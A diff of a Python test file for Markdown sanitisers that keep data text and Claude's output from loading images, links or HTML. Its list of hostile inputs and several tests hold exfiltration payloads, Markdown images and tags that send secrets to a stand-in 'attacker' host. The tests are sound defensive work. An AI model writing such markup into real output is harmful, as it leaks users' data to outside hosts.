@@ -1,23 +1,10 @@
-"""Markdown from data and from Claude: nothing in it may load, link or run (issue 9, point 6)."""
-
-import re
+"""Markdown from data and from Claude: nothing in it may load, link or run (issue 9, point 6;
+issue 18, point 3: addresses are shown as code, which no Markdown renderer autolinks)."""
 
 import pytest
 
 from components.text import escape_markdown, model_markdown
-
-# A markup character that is not escaped by a backslash (after removing escaped pairs).
-_UNESCAPED_MARKUP = re.compile(r"[\[\]()<>!:`]")
-
-
-def _bare(rendered: str) -> str:
-    """The text with every backslash-escaped character removed: what could act as markup."""
-    return re.sub(r"\\.", "", rendered)
-
-
-def _has_no_markup(rendered: str) -> bool:
-    return _UNESCAPED_MARKUP.search(_bare(rendered)) is None
-
+from tests.markdown_checks import live_markup, visible_text
 
 HOSTILE = [
     "![x](http://attacker/?d=secret-numbers)",
@@ -37,24 +24,19 @@ HOSTILE = [
 @pytest.mark.parametrize("text", HOSTILE)
 def test_escaped_data_text_has_no_markup(text: str) -> None:
     rendered = escape_markdown(text)
-    assert _has_no_markup(rendered)
-    assert "://" not in rendered and "![" not in rendered and "<img" not in _bare(rendered)
-    assert re.sub(r"\\(.)", r"\1", rendered) == text  # shows exactly as typed
+    assert live_markup(rendered) == []
+    assert visible_text(rendered) == " ".join(text.split())  # shows exactly as typed
 
 
 @pytest.mark.parametrize("text", HOSTILE)
 def test_model_text_has_no_images_links_or_html(text: str) -> None:
-    rendered = model_markdown(text)
-    assert _has_no_markup(rendered)
-    assert "://" not in rendered
-    assert "![" not in rendered and "<img" not in rendered.lower()
+    assert live_markup(model_markdown(text)) == []
 
 
 def test_model_images_are_dropped_with_their_address() -> None:
     rendered = model_markdown("Sales rose. ![chart](http://attacker/?d=secret-numbers)")
-    unescaped = re.sub(r"\\(.)", r"\1", rendered)
-    assert "secret-numbers" not in unescaped
-    assert unescaped.startswith("Sales rose.")
+    assert "secret-numbers" not in rendered
+    assert visible_text(rendered) == "Sales rose. chart"
 
 
 def test_model_reference_images_lose_their_definition() -> None:
@@ -65,23 +47,23 @@ def test_model_reference_images_lose_their_definition() -> None:
 
 def test_model_links_become_plain_text_with_the_address() -> None:
     rendered = model_markdown("See [the report](https://example.org/r) for more.")
-    assert re.sub(r"\\(.)", r"\1", rendered) == "See the report (https://example.org/r) for more."
-    assert _has_no_markup(rendered)
+    assert visible_text(rendered) == "See the report (https://example.org/r) for more."
+    assert live_markup(rendered) == []
 
 
 def test_model_autolinks_and_html_are_text() -> None:
     rendered = model_markdown('Go <https://attacker/x> <img src="http://attacker/i"> now')
-    assert re.sub(r"\\(.)", r"\1", rendered) == "Go https://attacker/x  now"
+    assert visible_text(rendered) == 'Go https://attacker/x <img src="http://attacker/i"> now'
+    assert live_markup(rendered) == []
 
 
 def test_model_keeps_bold_and_plain_numbers() -> None:
     rendered = model_markdown("The total is **1,234** (about _5%_ more).")
-    assert "**1,234**" in rendered
-    assert re.sub(r"\\(.)", r"\1", rendered) == "The total is **1,234** (about _5%_ more)."
+    assert "**1,234**" in rendered and "_5%_" in rendered
+    assert visible_text(rendered) == "The total is 1,234 (about 5% more)."
 
 
 def test_backslashes_cannot_undo_the_escaping() -> None:
     for render in (escape_markdown, model_markdown):
         rendered = render("\\![x](http://attacker/x)")
-        assert _has_no_markup(rendered)
-        assert "://" not in rendered
+        assert live_markup(rendered) == []
